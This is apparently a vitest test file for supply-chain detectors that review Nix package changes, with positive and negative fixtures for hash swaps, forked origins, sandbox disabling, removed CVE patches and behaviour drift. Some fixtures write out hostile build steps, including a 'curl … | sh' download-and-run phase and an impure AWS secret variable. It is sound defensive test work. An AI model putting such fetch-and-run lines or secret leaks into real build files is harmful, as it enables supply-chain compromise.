import { readdirSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import type { Capability, CapabilityRisk, ExaminedStep } from './detector.ts';
import { detectors } from './index.ts';
import {
  commit,
  comparison,
  day,
  file,
  outputs,
  patch,
  request,
  signals,
  source,
  step,
  today,
  touched,
  turn,
} from './testing.ts';

const other = 'sha256-BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBA=';
const hex = (text: string) => `sha256:${Buffer.from(text.slice('sha256-'.length), 'base64').toString('hex')}`;
const github = (project: string, given: { readonly tag?: string; readonly rev?: string } = {}) =>
  source({ urls: [`https://github.com/${project}/archive/refs/tags/v1.0.tar.gz`], tag: null, ...given });
const on = (flags: Readonly<Record<string, string>>) => ({ attributes: flags });

const can = (file: string, risk: CapabilityRisk, does = 'steers other processes') => ({
  file,
  does,
  risk,
  by: 'ptrace',
});
const drift = (before: readonly Capability[], after: readonly Capability[]) =>
  turn({}, {}, { outputs: { before: outputs({ capabilities: before }), after: outputs({ capabilities: after }) } });

/** By detector: what must be seen, and what looks like it and must not. */
const examples: Readonly<
  Record<
    string,
    { readonly seen: Readonly<Record<string, ExaminedStep>>; readonly quiet: Readonly<Record<string, ExaminedStep>> }
  >
> = {
  'src-hash-swap': {
    seen: { 'the archive was uploaded again': turn({}, { sources: [source({ hash: other })] }) },
    quiet: {
      'the digest in another encoding': turn(
        { sources: [source({ hash: other })] },
        { sources: [source({ hash: hex(other) })] },
      ),
      'a new version': turn(
        {},
        { version: '1.1', sources: [source({ urls: ['https://example.org/tool-1.1.tar.gz'], hash: other })] },
      ),
      'a new revision of a snapshot': turn(
        { sources: [source({ rev: 'a'.repeat(40) })] },
        { sources: [source({ rev: 'b'.repeat(40), hash: other })] },
      ),
    },
  },
  'version-same-hash': {
    seen: {
      'the digest was forgotten': turn(
        {},
        { version: '1.1', sources: [source({ urls: ['https://example.org/tool-1.1.tar.gz'] })] },
      ),
    },
    quiet: {
      'a new digest': turn({}, { version: '1.1', sources: [source({ hash: other })] }),
      'the same commit, named otherwise': turn(
        { version: '1.0', sources: [source({ rev: 'a'.repeat(40) })] },
        { version: '1.0-rc1', sources: [source({ rev: 'a'.repeat(40) })] },
      ),
      'a date more in the version': turn({}, { version: '1.0-unstable-2026-05-01' }),
      'the version is that of a second source': turn(
        { sources: [source(), source({ name: 'data' })] },
        { version: '1.1', sources: [source(), source({ name: 'data', hash: other })] },
      ),
    },
  },
  'origin-changed': {
    seen: {
      'a fork': turn({ sources: [github('tukaani-project/xz')] }, { sources: [github('xz-mirror-example/xz')] }),
      'another host': turn({}, { sources: [source({ urls: ['https://example.net/tool-1.0.tar.gz'] })] }),
      'no encryption': turn({}, { sources: [source({ urls: ['http://example.org/tool-1.0.tar.gz'] })] }),
      'an uploaded file in place of the tag': turn(
        { sources: [github('a/b')] },
        { sources: [source({ urls: ['https://github.com/a/b/releases/download/v1.0/b-1.0.tar.gz'] })] },
      ),
      'a bare commit in place of the tag': turn(
        { sources: [github('a/b', { tag: 'v1.0' })] },
        { sources: [github('a/b', { rev: 'a'.repeat(40) })] },
      ),
    },
    quiet: {
      'another path of the host': turn(
        {},
        { version: '1.1', sources: [source({ urls: ['https://example.org/1.1/tool-1.1.tar.gz'] })] },
      ),
      'the same project in other letters': turn({ sources: [github('Acme/Tool')] }, { sources: [github('acme/tool')] }),
      'the host that serves the archives': turn(
        { sources: [source({ urls: ['https://github.com/a/b/archive/v1.tar.gz'], tag: 'v1' })] },
        { sources: [source({ urls: ['https://codeload.github.com/a/b/tar.gz/v1'], tag: 'v1' })] },
      ),
      'one of the hosts of mirror://gnu': turn(
        { sources: [source({ urls: ['mirror://gnu/tool/tool-1.0.tar.gz', 'https://a.example/x'] })] },
        { sources: [source({ urls: ['mirror://gnu/tool/tool-1.1.tar.gz', 'https://b.example/x'] })] },
      ),
    },
  },
  'refetch-mismatch': {
    seen: {
      'a poisoned mirror': turn(
        {},
        {},
        {
          sources: comparison({
            fetches: [
              { place: 'mirror.example', digest: 'sha256-x', treeDigest: 't2' },
              { place: 'example.org', digest: 'sha256-d', treeDigest: 't1' },
            ],
          }),
        },
      ),
      'exchanged everywhere': turn(
        {},
        {},
        { sources: comparison({ fetches: [{ place: 'a', digest: 'sha256-x', treeDigest: 't' }] }) },
      ),
    },
    quiet: {
      'compressed anew by the forge': turn(
        {},
        {},
        {
          sources: comparison({
            fetches: [
              { place: 'a', digest: 'sha256-x', treeDigest: 't' },
              { place: 'b', digest: 'sha256-d', treeDigest: 't' },
            ],
          }),
        },
      ),
      'all as declared': turn(
        {},
        {},
        { sources: comparison({ fetches: [{ place: 'a', digest: 'sha256-d', treeDigest: 't' }] }) },
      ),
    },
  },
  'tarball-vs-tag': {
    seen: {
      'a macro that only the archive has, as in xz 5.6.1': turn(
        {},
        {},
        {
          sources: comparison({
            tag: [file('src/a.c', '1')],
            after: [file('src/a.c', '1'), file('m4/build-to-host.m4', '2')],
          }),
        },
      ),
      'a file of noise': turn(
        {},
        {},
        {
          sources: comparison({ tag: [], after: [file('tests/files/bad.xz', '3', { kind: 'binary', entropy: 7.99 })] }),
        },
      ),
      'a build script that differs': turn(
        {},
        {},
        { sources: comparison({ tag: [file('configure.ac', '1')], after: [file('configure.ac', '2')] }) },
      ),
    },
    quiet: {
      'a text that is not run': turn({}, {}, { sources: comparison({ tag: [], after: [file('ChangeLog', '4')] }) }),
      'a generated file as in the release before': turn(
        {},
        {},
        {
          sources: comparison({ tag: [], before: [file('configure', '5')], after: [file('configure', '5')] }),
        },
      ),
      'allowed by digest, still': turn(
        {},
        {},
        {
          sources: comparison({ tag: [], after: [file('configure', '6')], allowed: new Map([['6', today + day]]) }),
        },
      ),
    },
  },
  'build-root': {
    seen: {
      'a hook of every build': { ...turn({}, { version: '1.1' }), paths: touched('pkgs/stdenv/generic/setup.sh') },
      'a script that CI runs': step({ paths: touched('ci/eval/default.nix') }),
      'an update script': step({ paths: touched('pkgs/by-name/to/tool/update.sh') }),
    },
    quiet: {
      'a package file': { ...turn({}, { version: '1.1' }), paths: touched('pkgs/by-name/to/tool/package.nix') },
      'the list of maintainers': step({ paths: touched('lib/maintainers.nix') }),
    },
  },
  'sandbox-attr': {
    seen: {
      'no sandbox': turn(on({}), on({ __noChroot: '1' })),
      'a variable from outside': turn(on({}), on({ impureEnvVars: 'http_proxy AWS_SECRET_ACCESS_KEY' })),
      'another mode of the digest': turn(on({ outputHashMode: 'flat' }), on({ outputHashMode: 'recursive' })),
      'a fetch without a digest': step({
        files: [{ path: 'a.nix', before: '{ }', after: 'builtins.fetchTarball "https://example.org/x"' }],
      }),
    },
    quiet: {
      'only proxies': turn(on({}), on({ impureEnvVars: 'http_proxy https_proxy no_proxy' })),
      'a written text that is quicker made than fetched': turn(
        { pname: 'writeText-x', ...on({}) },
        { pname: 'writeText-x', ...on({ allowSubstitutes: '' }) },
      ),
      'it always was': turn(on({ __noChroot: '1' }), on({ __noChroot: '1' })),
    },
  },
  'prebuilt-blob': {
    seen: {
      'binary packages in place of the source': turn({}, { provenance: ['binaryNativeCode'] }),
      'a library in the source': turn(
        {},
        {},
        { sources: comparison({ after: [file('lib/x.so', '7', { kind: 'elf' })] }) },
      ),
      autoPatchelf: turn(on({}), on({ nativeBuildInputs: '/nix/store/x-auto-patchelf-hook' })),
    },
    quiet: {
      'a test fixture that was there': turn(
        {},
        {},
        {
          sources: comparison({
            before: [file('tests/a.elf', '8', { kind: 'elf' })],
            after: [file('tests/a.elf', '8', { kind: 'elf' })],
          }),
        },
      ),
      'from source': turn({}, { provenance: ['fromSource'] }),
    },
  },
  'fix-removed': {
    seen: {
      'tidied away at the same version': turn({ patches: [patch('CVE-2025-62813.patch')] }, {}),
      'named in the text of the patch': turn({ patches: [patch('fix.patch', 'Fixes CVE-2025-1234')] }, {}),
      'a bump below the fixed version': turn(
        { patches: [patch('CVE-2025-62813.patch')] },
        { version: '1.1' },
        { fixedIn: new Map([['CVE-2025-62813', '1.2']]) },
      ),
    },
    quiet: {
      'the new version has it': turn(
        { patches: [patch('CVE-2025-62813.patch')] },
        { version: '1.2' },
        { fixedIn: new Map([['CVE-2025-62813', '1.2']]) },
      ),
      'an advisory that is no CVE': turn(
        { patches: [patch('GHSA-jfhm-5ghh-2f97.patch')] },
        { version: '1.2' },
        { fixedIn: new Map([['GHSA-jfhm-5ghh-2f97', '1.2']]) },
      ),
      renamed: turn({ patches: [patch('CVE-2025-62813.patch')] }, { patches: [patch('lz4-CVE-2025-62813.patch')] }),
      'a patch that fixes no vulnerability': turn({ patches: [patch('darwin.patch')] }, {}),
    },
  },
  'guard-removed': {
    seen: {
      'the warning goes': turn({ knownVulnerabilities: ['CVE-2025-1'] }, {}),
      'no tests': turn(on({ doCheck: '1' }), on({})),
      'a test is skipped': turn(on({ doCheck: '1', disabledTests: 'a' }), on({ doCheck: '1', disabledTests: 'a b' })),
    },
    quiet: {
      'the warning was for the old version': turn({ knownVulnerabilities: ['CVE-2025-1'] }, { version: '1.1' }),
      'tests that never ran here': turn(on({ doInstallCheck: '' }), on({})),
      'skips fewer': turn(on({ doCheck: '1', disabledTests: 'a b' }), on({ doCheck: '1', disabledTests: 'a' })),
    },
  },
  'hardening-down': {
    seen: {
      'without fortification': turn(on({}), on({ hardeningDisable: 'fortify' })),
      'the output lost it': turn({}, {}, { outputs: { before: outputs(), after: outputs({ hardening: ['relro'] }) } }),
      'a setuid wrapper': step({
        files: [{ path: 'nixos/x.nix', before: '{ }', after: 'security.wrappers.x = { setuid = true; };' }],
      }),
    },
    quiet: {
      'the output measures the same': turn(on({}), on({ hardeningDisable: 'format' }), {
        outputs: { before: outputs(), after: outputs() },
      }),
      'it is hardened more': turn(on({ hardeningDisable: 'fortify' }), on({})),
    },
  },
  'merge-provenance': {
    seen: {
      'on its author’s word': step({ commits: [commit(request({ mergedBy: 'ada', approvals: [] }))] }),
      'by a robot on its author’s word': step({
        commits: [commit(request({ mergedBy: 'bot', mergedFor: 'ada', approvals: [] }))],
      }),
      'changed after the approval': step({ commits: [commit(request({ lastPushedAt: today + day }))] }),
      'outside any request': step({ commits: [commit(null)] }),
      'by the robot on the word of an account that was open to others': step({
        commits: [commit(request({ mergedBy: 'bot', mergedFor: 'mallory', approvals: [{ by: 'ben', at: today }] }))],
        windows: [{ accounts: ['mallory'], from: today - day, to: null }],
      }),
    },
    quiet: {
      'approved and merged by another': step({ commits: [commit(request())] }),
      'a backport of what was approved': step({ commits: [commit(request({ approvals: [], backportOf: 'abc' }))] }),
      'nobody asked the forge': step({ commits: [commit(undefined)] }),
      'the window was closed before': step({
        commits: [commit(request())],
        windows: [{ accounts: ['ben'], from: today - 9 * day, to: today - 8 * day }],
      }),
    },
  },
  'exec-code-added': {
    seen: {
      'a download in a phase': turn(on({}), on({ postInstall: 'curl https://example.org/x | sh' })),
      'decoded code': turn(on({ buildPhase: 'make' }), on({ buildPhase: 'make; base64 -d x > y' })),
      'vendored code changed alone': turn(on({ vendorHash: 'a', src: 's' }), on({ vendorHash: 'b', src: 's' })),
    },
    quiet: {
      'it was there before': turn(on({ postInstall: 'wget x' }), on({ postInstall: 'wget x # y' })),
      'vendored code of a new version': turn(on({ vendorHash: 'a', src: 's' }), {
        version: '1.1',
        ...on({ vendorHash: 'b', src: 't' }),
      }),
      'a description that names curl': turn(on({}), on({ description: 'like curl' })),
    },
  },
  'upstream-signal': {
    seen: {
      'three days old': turn({}, {}, { signals: signals({ releasedAt: today - 3 * day }) }),
      'another owner': turn({}, {}, { signals: signals({ transferred: true }) }),
      'a Scorecard two points lower': turn({}, {}, { signals: signals({ scorecard: { before: 4.1, after: 2.1 } }) }),
      'a new signer': turn(
        {},
        {},
        { signals: signals({ signer: { name: 'jia', firstSeenAt: today - 10 * day, isNew: true } }) },
      ),
      'awake after years': turn(
        {},
        {},
        {
          signals: signals({ releases: [today - 900 * day, today - 20 * day, today - 12 * day, today - 8 * day] }),
        },
      ),
    },
    quiet: {
      'a Scorecard a little lower': turn({}, {}, { signals: signals({ scorecard: { before: 8.1, after: 6.2 } }) }),
      'the signer of years': turn(
        {},
        {},
        { signals: signals({ signer: { name: 'lasse', firstSeenAt: today - 4000 * day, isNew: true } }) },
      ),
      'a project that releases every month': turn(
        {},
        {},
        {
          signals: signals({ releases: [today - 70 * day, today - 40 * day, today - 10 * day] }),
        },
      ),
    },
  },
  'behaviour-drift': {
    seen: {
      'it opens connections': turn(
        {},
        {},
        { outputs: { before: outputs(), after: outputs({ symbols: ['printf', 'connect'] }) } },
      ),
      'it doubled': turn({}, {}, { outputs: { before: outputs(), after: outputs({ sizeBytes: 20_000_000 }) } }),
      'a new library': turn(
        {},
        {},
        { outputs: { before: outputs(), after: outputs({ needed: ['libc.so.6', 'libcurl.so.4'] }) } },
      ),
      'a file can do worse than it could': drift([can('bin/tool', 2)], [can('bin/tool', 3)]),
      'a new file can do worse than all there were': drift(
        [can('bin/tool', 2)],
        [can('bin/tool', 2), can('bin/new', 3)],
      ),
      'one of many is enough': drift(
        [can('bin/tool', 4), can('lib/libz.so.1.3', 1)],
        [can('bin/tool', 4), can('lib/libz.so.1.4', 2)],
      ),
      'a file grew out of reach': turn({}, {}, { outputs: { before: outputs(), after: outputs({ unread: 1 }) } }),
    },
    quiet: {
      'it grew a little': turn({}, {}, { outputs: { before: outputs(), after: outputs({ sizeBytes: 10_500_000 }) } }),
      'another harmless call': turn(
        {},
        {},
        { outputs: { before: outputs(), after: outputs({ symbols: ['printf', 'memcpy'] }) } },
      ),
      'it can do what it could, by another call': drift(
        [can('bin/tool', 3)],
        [can('bin/tool', 3, 'opens connections')],
      ),
      'the library got a new number': drift([can('lib/libz.so.1.3', 3)], [can('lib/libz.so.1.3.1', 3)]),
      'a new file can do what another could': drift([can('bin/tool', 2)], [can('bin/tool', 2), can('bin/new', 2)]),
      'it can do less': drift([can('bin/tool', 4)], [can('bin/tool', 1)]),
    },
  },
};

describe.each(detectors.map((detector) => [`${detector.id} ${detector.name}`, detector] as const))(
  '%s',
  (_, detector) => {
    const { seen, quiet } = examples[detector.name] ?? { seen: {}, quiet: {} };

    test.each(Object.entries(seen))('sees: %s', (_name, examined) => {
      const hits = detector.examine(examined);
      expect(hits).not.toEqual([]);
      for (const hit of hits) expect(hit.severity).not.toBe('info');
    });

    test.each(Object.entries(quiet))('leaves alone: %s', (_name, examined) => {
      expect(detector.examine(examined)).toEqual([]);
    });

    test('has examples of both', () => {
      expect(Object.keys(seen).length).toBeGreaterThan(0);
      expect(Object.keys(quiet).length).toBeGreaterThan(0);
    });
  },
);

test('a compromised account makes a hit critical', () => {
  const windows = [{ accounts: ['ben'], from: today - day, to: null }];
  const detector = detectors.find(({ id }) => id === 'D12');
  expect(detector?.examine(step({ commits: [commit(request())], windows }))).toMatchObject([{ severity: 'critical' }]);
});

test('a root of every build that changed no covered derivation is only mentioned', () => {
  const detector = detectors.find(({ id }) => id === 'D06');
  expect(detector?.examine(step({ paths: touched('lib/strings.nix') }))).toMatchObject([{ severity: 'info' }]);
});

test('a security fix need not rest, and those who approve it are told that it did not', () => {
  const detector = detectors.find(({ id }) => id === 'D14');
  const early = turn({}, {}, { signals: signals({ releasedAt: today - day, fastLane: true, tagMoved: true }) });
  expect(detector?.examine(early)).toMatchObject([
    { severity: 'info', says: expect.stringMatching(/^it was released 1 days ago, less than 7: it resolves/) },
    { severity: 'high', says: 'its tag was moved' },
  ]);
});

test('what a file can do is told with what shows it, the worst first and no more than can be read', () => {
  const detector = detectors.find(({ id }) => id === 'D15');
  const many = Array.from({ length: 30 }, (_, index) => can(`lib/${'a'.repeat(index + 1)}`, 2));
  const says = detector?.examine(drift([can('bin/tool', 1, 'runs programs')], [...many, can('bin/tool', 4, 'mines')]));
  expect(says?.map((hit) => hit.says)).toEqual([
    'bin/tool ranks critical, it was low: mines (ptrace)',
    ...Array.from({ length: 9 }, () => expect.stringMatching(/^lib\/a+ ranks medium, the rest was low: /)),
    '21 more files rank higher than they did',
  ]);
});

test('every detector has a file and a line in the list', () => {
  const besides = ['index', 'detector', 'source-place', 'testing'];
  const files = readdirSync(import.meta.dirname)
    .filter((name) => name.endsWith('.ts') && !name.includes('.test.'))
    .map((name) => name.slice(0, -'.ts'.length))
    .filter((name) => !besides.includes(name));
  expect(detectors.map(({ name }) => name).sort()).toEqual(files.sort());
  expect(detectors.map(({ id }) => id)).toEqual(
    Array.from({ length: 15 }, (_, index) => `D${String(index + 1).padStart(2, '0')}`),
  );
});
